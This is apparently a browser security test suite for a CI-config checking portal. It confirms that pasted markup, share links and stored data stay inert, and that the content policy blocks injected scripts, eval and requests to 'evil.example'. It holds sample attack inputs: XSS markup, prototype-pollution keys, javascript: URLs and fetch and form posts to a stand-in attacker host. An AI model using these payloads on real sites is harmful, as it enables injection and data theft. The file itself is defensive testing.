// What docs/security.md claims of the browser.

import assert from "node:assert/strict";
import { readFile, readdir } from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { deflateRawSync } from "node:zlib";

import { DIST } from "../site_files.mjs";
import { alive, eventually, portal, written } from "./browser.mjs";
import { BROKEN, EVIL, NAMES, TEXTS, foreignParts } from "./hostile.mjs";
import { file, openWorkbench, reports, says, workbench } from "./workbench.mjs";

const site = portal();

const openChecker = (path) => openWorkbench(site, { path });

/** Fails where anything of a text became more than text, or the policy had to step in. */
const assertNothingButText = async ({ page }, where) => {
  assert.deepEqual(await foreignParts(page), [], where);
  assert.deepEqual(page.refused, [], where);
  assert.deepEqual(page.complaints, [], where);
};

/** Shows each panel of the report, and calls `look` with its name. */
const eachPanel = async (checker, look) => {
  for (const tab of await checker.root.locator("[role=tab]").all()) {
    const name = await tab.getAttribute("data-tab");
    await tab.click();
    await checker.root.locator(`[data-panel=${name}]`).waitFor();
    await look(name);
  }
};

/** Pastes and waits for the report on exactly this text. */
const paste = async (checker, text) => {
  const answered = checker.root.evaluate((root) => new Promise((answer) => root.addEventListener("conform:answer", () => answer(), { once: true })));
  await checker.paste(text);
  await answered;
};

for (const [kind, texts] of Object.entries(TEXTS)) {
  test(`markup in a text is shown as text: ${kind}`, async () => {
    const checker = await openChecker(`/check/${kind}/`);
    for (const text of texts) {
      await paste(checker, text);
      await assertNothingButText(checker, "at first");
      let shown = await checker.report.textContent();
      await eachPanel(checker, async (name) => {
        shown += await checker.report.textContent();
        await assertNothingButText(checker, name);
      });
      if (text !== BROKEN) assert.match(shown, /data-evil/, "the report shows something of the text");
      const fixes = checker.root.locator("[data-fix]");
      if (await fixes.count()) {
        await fixes.first().click();
        await eventually(async () => assert.notEqual(await checker.text(), text));
        await assertNothingButText(checker, "after a fix");
      }
    }
  });
}

test("markup is shown as text on the home page, whatever it is taken for", async () => {
  const page = await site.open("/");
  await alive(page);
  const field = page.locator("textarea[data-field]").first();
  for (const text of Object.values(TEXTS).flat()) {
    await written(field, text);
    await eventually(async () => assert.match(await page.locator("[data-result]").first().textContent(), /data-evil|cannot be checked|nothing/i));
    await assertNothingButText({ page }, text.slice(0, 60));
  }
});

test("markup in the editor's findings is shown as text", async () => {
  const checker = await openChecker("/check/gitlab-ci/");
  await checker.field.focus();
  await checker.editor.waitFor();
  await checker.paste(TEXTS["gitlab-ci"][0]);
  const mark = checker.root.locator(".cm-lintRange").first();
  await mark.waitFor();
  await mark.hover();
  await checker.page.locator(".cm-tooltip").first().waitFor();
  await assertNothingButText(checker, "hover");
  await checker.editor.press("Control+Shift+M");
  await checker.page.getByRole("region", { name: "Findings" }).waitFor();
  await assertNothingButText(checker, "panel");
});

test("markup in files, their names, events and variables is shown as text", async () => {
  const checker = await openChecker("/check/gitlab-ci/");
  await checker.paste(TEXTS["gitlab-ci"][0]);
  const files = NAMES.map((name) => file(name.replaceAll("/", "_"), TEXTS["gitlab-ci"][0]));
  await checker.root.locator("[data-picker]").setInputFiles([...files, { ...file("bad<b data-evil>.png", ""), buffer: Buffer.from([0, 159, 146, 150]) }]);
  await says(checker.notice, /data-evil/);
  for (const [index, name] of NAMES.entries()) {
    const path = checker.root.getByLabel("Path").nth(index);
    await path.fill(name);
    await path.press("Enter");
  }
  await checker.button(/^Check this one/).first().click();
  await says(checker.notice, /is checked now/);
  await checker.root.getByText("Describe a trigger").click();
  for (const label of ["Branch", "Tag", "Target branch", "Variables, one a line", "Changed files, one a line"]) {
    await checker.root.getByLabel(label, { exact: true }).fill(`A=${EVIL}`);
  }
  await reports(checker, /data-evil/);
  await eachPanel(checker, (name) => assertNothingButText(checker, name));
});

test("markup in the search, the generator and the tag builder is shown as text", async () => {
  const page = await site.open("/start/new-service/");
  await alive(page);
  for (const option of await page.locator(".generator input[data-option]:not([type=checkbox])").all()) await option.fill(EVIL);
  await eventually(async () => assert.match(await page.locator("[data-result]").first().innerText(), /data-evil|letters|name/i));
  await assertNothingButText({ page }, "generator");
  await page.keyboard.press("ControlOrMeta+k");
  await page.getByRole("combobox").or(page.getByRole("searchbox")).first().fill(`port ${EVIL}`);
  await eventually(async () => assert.notEqual(await page.locator("dialog.search [role=status]").textContent(), ""));
  await assertNothingButText({ page }, "search");
  await page.goto(`${site.origin}/naming/`);
  await alive(page);
  const builder = page.locator(".builder").first();
  for (const option of await builder.locator("input[data-option]").all()) if (await option.isVisible()) await option.fill(EVIL);
  await eventually(async () => assert.match(await builder.locator("xpath=..").locator("[data-result]").innerText(), /\S/));
  await assertNothingButText({ page }, "tag builder");
});

/** A link as `crates/link` describes it, with any content. */
const link = ({ kind = "gitlab-ci", text = "", options = [], files = [] }) => {
  const number = (value) => (value < 128 ? [value] : [(value & 127) | 128, ...number(value >> 7)]);
  const string = (value) => [...number(Buffer.byteLength(value)), ...Buffer.from(value)];
  const list = (entries) => [...number(entries.length), ...entries.flat().flatMap(string)];
  const bytes = [...string(kind), ...string(text), ...list(options), ...list(files)];
  let sum = 0x811c9dc5;
  for (const byte of bytes) sum = Math.imul(sum ^ byte, 0x01000193) >>> 0;
  const checked = Buffer.from([...bytes, ...[0, 8, 16, 24].map((shift) => (sum >>> shift) & 255)]);
  return `#v1.${deflateRawSync(checked).toString("base64url")}`;
};

const HOSTILE_LINK = link({
  kind: EVIL,
  text: TEXTS["gitlab-ci"][0],
  options: [["branch", EVIL], ["variables", `A=${EVIL}`], ["legacy_names", EVIL], ["__proto__", EVIL], ["constructor", EVIL], ["onclick", "globalThis.evil=1"]],
  files: [["local", EVIL, EVIL], ["javascript", "javascript:globalThis.evil=1", EVIL], ["remote", `https://host.example/${EVIL}`, EVIL]],
});

test("a link shows a text and does nothing else", async () => {
  const checker = await openChecker("/check/gitlab-ci/");
  const { page } = checker;
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.evaluate(() => navigator.clipboard.writeText("mine"));
  const mine = "mine: {script: [make]}\n";
  await checker.paste(mine);
  await says(checker.kept, /kept on this device/);
  const kept = () => page.evaluate(() => JSON.stringify({ ...localStorage }));
  const before = await kept();
  const happened = [];
  for (const event of ["download", "popup", "dialog", "filechooser"]) page.on(event, () => happened.push(event));
  page.on("request", (request) => {
    if (request.method() !== "GET" || new URL(request.url()).search) happened.push(`${request.method()} ${request.url()}`);
  });
  await page.goto(`${site.origin}/check/gitlab-ci/${HOSTILE_LINK}`);
  await page.reload();
  await alive(page);
  await says(checker.notice, /Opened from a link/);
  assert.equal(await checker.text(), TEXTS["gitlab-ci"][0]);
  await reports(checker, /data-evil/);
  await eachPanel(checker, (name) => assertNothingButText(checker, name));
  assert.equal(await kept(), before, "what was kept stays");
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "mine");
  assert.equal(new URL(page.url()).pathname, "/check/gitlab-ci/");
  assert.equal(await page.evaluate(() => ({}).polluted ?? Object.prototype.branch), undefined);
  assert.deepEqual(happened, []);
});

test("no address runs or shows anything but what it leads to", async () => {
  for (const address of [`/check/gitlab-ci/?q=${encodeURIComponent(EVIL)}`, `/check/gitlab-ci/#${EVIL}`, `/naming/#"><img data-evil>`, "/check/gitlab-ci/#v1.<img data-evil>", "/#javascript:globalThis.evil=1", `/${encodeURIComponent("<img data-evil>")}`]) {
    const page = await site.open(address);
    if (await page.locator("leptos-island").count()) await alive(page);
    assert.deepEqual(await foreignParts(page), [], address);
    assert.deepEqual(page.refused, [], address);
    await page.context().close();
  }
});

test("markup and nonsense in what was kept are shown as text or left out", async () => {
  const text = TEXTS["gitlab-ci"][0];
  const works = [
    { kind: EVIL, text, options: { branch: EVIL, legacy_names: EVIL, __proto__: EVIL }, files: [{ origin: "local", name: EVIL, text: EVIL }] },
    { text: { evil: EVIL } },
    { text, options: EVIL, files: [] },
  ];
  const checker = await openChecker("/check/gitlab-ci/");
  for (const work of works) {
    await checker.page.evaluate((kept) => localStorage.setItem("conform:work:gitlab-ci", kept), JSON.stringify(work));
    await checker.page.reload();
    await alive(checker.page);
    await checker.report.waitFor();
    if (typeof work.text === "string") await reports(checker, /data-evil/);
    await assertNothingButText(checker, JSON.stringify(work).slice(0, 80));
  }
});

test("the policy refuses what markup would want, and says so", async () => {
  const page = await site.open("/check/gitlab-ci/");
  const tried = {
    "script-src-elem inline": () => document.body.append(Object.assign(document.createElement("script"), { textContent: "globalThis.evil = 1" })),
    "script-src-attr inline": () => document.body.setAttribute("onclick", "globalThis.evil = 1"),
    "script-src eval": () => {
      const listener = () => globalThis["eval"]("globalThis.evil = 1");
      setTimeout(listener);
    },
    "script-src-elem https://evil.example/x.js": () => document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" })),
    "connect-src https://evil.example/": () => fetch("https://evil.example/").catch(() => {}),
    "img-src https://evil.example/x.png": () => { new Image().src = "https://evil.example/x.png"; },
    "frame-src https://evil.example": () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
    "object-src https://evil.example": () => document.body.append(Object.assign(document.createElement("object"), { data: "https://evil.example/" })),
    "style-src-elem inline": () => document.body.append(Object.assign(document.createElement("style"), { textContent: "* { color: red }" })),
    "base-uri https://evil.example/": () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })),
    "worker-src blob": () => new Worker(URL.createObjectURL(new Blob(["globalThis.evil = 1"]))),
    "form-action https://evil.example/": () => {
      const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
      document.body.append(form);
      form.submit();
    },
  };
  for (const [refusal, attempt] of Object.entries(tried)) {
    page.refused.length = 0;
    await page.evaluate(attempt);
    await eventually(() => assert.ok(page.refused.includes(refusal), `${refusal}: ${page.refused}`));
  }
  assert.equal(await page.evaluate(() => globalThis.evil), undefined);
});

test("no control of a page has its policy broken", async () => {
  // Every page as it is when it opens: pages.test.mjs. Here one of each make, with everything on it pressed.
  for (const path of ["/", "/start/", "/start/new-service/", "/naming/", "/pipeline/", "/services/", "/check/gitlab-ci/", "/check/dockerfile/", "/rules/", "/rules/image-push-port/", "/404.html"]) {
    const page = await site.open(path);
    if (await page.locator("leptos-island").count()) await alive(page);
    await page.evaluate(() => document.querySelectorAll("main button, header button, summary").forEach((control) => control.click()));
    await page.keyboard.press("Escape");
    await page.keyboard.press("ControlOrMeta+k");
    await page.locator("dialog.search").waitFor();
    await page.emulateMedia({ media: "print", colorScheme: "dark" });
    assert.deepEqual(page.refused, [], path);
    await page.context().close();
  }
});

/** Pagefind asks for this file with an empty time, which is the same for everyone. */
const isEntryOfTheIndex = ({ pathname, search }) => pathname.endsWith("/pagefind-entry.json") && search === "?ts=";

test("a whole session asks for files of the portal and sends nothing", async () => {
  const from = site.log.length;
  const secret = "very-private-text";
  const asked = [];
  const page = await site.open("/", {
    prepare: async (page) => {
      page.context().on("request", (request) => asked.push(request));
    },
  });
  await alive(page);
  await written(page.locator("textarea[data-field]").first(), `FROM ${secret}\n`);
  await eventually(async () => assert.match(await page.locator("[data-result]").first().textContent(), new RegExp(secret)));
  await page.keyboard.press("Escape");
  for (const [kind, texts] of Object.entries(TEXTS)) {
    await page.goto(`${site.origin}/check/${kind}/`);
    await alive(page);
    const checker = workbench(page);
    await paste(checker, `${texts[0]}\n# ${secret}\n`);
    await eachPanel(checker, () => {});
    for (const name of ["Share", "Copy as Markdown", "Download JSON", "Download SARIF"]) await checker.button(name).click();
    await eventually(async () => assert.match(page.url(), /#v1\./));
    await page.reload();
    await alive(page);
    await says(checker.notice, /Opened from a link/);
  }
  await page.keyboard.press("Escape");
  await page.goto(`${site.origin}/naming/`);
  await page.keyboard.press("ControlOrMeta+k");
  await page.keyboard.type(secret);
  await eventually(async () => assert.notEqual(await page.locator("dialog.search [role=status]").textContent(), ""));
  const isKept = () => page.evaluate(async () => Boolean((await navigator.serviceWorker.getRegistration())?.active));
  await eventually(async () => assert.ok(await isKept()), 20_000);
  await page.close();

  for (const request of asked) {
    const url = new URL(request.url());
    if (url.protocol === "blob:") continue;
    assert.equal(url.origin, site.origin);
    assert.ok(url.search === "" || isEntryOfTheIndex(url), request.url());
    assert.deepEqual([request.method(), request.postData()], ["GET", null], request.url());
  }
  const served = site.log.slice(from);
  assert.ok(served.length > 20);
  for (const { method, url, bytes, found, headers } of served) {
    assert.deepEqual([method, bytes, found], ["GET", 0, true], url);
    assert.doesNotMatch(`${url} ${JSON.stringify(headers)}`, new RegExp(`${secret}|v1\\.|cookie`, "i"), url);
  }
});

test("a credential is in no part of the page but where it was typed, and in no export", async () => {
  const secret = "hunter2-Very-Secret";
  const text = `variables:
  DB_PASSWORD: "${secret}"
  URL: https://me:${secret}@host.example/x
build:
  image: ${secret}:1 # conform: ignore image-public-registry -- PASSWORD=${secret}
  script:
    - docker login -u me --password ${secret} nexus.shared.cwiq.io:8444
    - curl -H "PRIVATE-TOKEN: ${secret}" https://host.example
    - export API_TOKEN=${secret}; echo "$API_TOKEN"
  rules: [{if: '$API_TOKEN == "${secret}"'}]
  environment: {name: x, url: "https://me:${secret}@host.example"}
`;
  const checker = await openChecker("/check/gitlab-ci/");
  const { page } = checker;
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  // An image or a condition that happens to be equal is no credential by its place; it is left out here and said so in the document.
  await paste(checker, text.replace(`image: ${secret}:1`, "image: python:3.12").replace(/^ {2}rules.*\n/m, ""));
  const elsewhere = () =>
    page.evaluate(() => {
      const copy = document.body.cloneNode(true);
      for (const typed of copy.querySelectorAll("textarea, .cm-content, [data-layer]")) typed.remove();
      return copy.innerHTML;
    });
  assert.ok(!(await elsewhere()).includes(secret));
  await eachPanel(checker, async (name) => assert.ok(!(await elsewhere()).includes(secret), name));
  await checker.button("Share").click();
  await says(checker.notice, /^No link/);
  await checker.button("Copy as Markdown").click();
  await says(checker.notice, /on the clipboard, as Markdown/);
  const exports = [await page.evaluate(() => navigator.clipboard.readText())];
  for (const name of ["JSON", "SARIF"]) {
    const [download] = await Promise.all([page.waitForEvent("download"), checker.button(`Download ${name}`).click()]);
    exports.push(await readFile(await download.path(), "utf8"));
  }
  for (const written of exports) {
    assert.match(written, /secret-literal/);
    assert.ok(!written.includes(secret), written.slice(0, 300));
  }
  const stores = await page.evaluate(async () => {
    const kept = await Promise.all((await caches.keys()).map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url)));
    return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, history.state, location.href, kept, await indexedDB.databases()]);
  });
  assert.ok(!stores.includes(secret));
});

test("no file of the portal says where it was built", async () => {
  const places = [process.env.CARGO_HOME ?? join(homedir(), ".cargo"), fileURLToPath(new URL("../../", import.meta.url))];
  const files = (await readdir(DIST, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile());
  assert.ok(files.some(({ name }) => name.endsWith(".wasm")));
  for (const { parentPath, path = parentPath, name } of files) {
    const content = await readFile(join(path, name));
    for (const place of places) assert.ok(!content.includes(place), `${name} has ${place}`);
  }
});
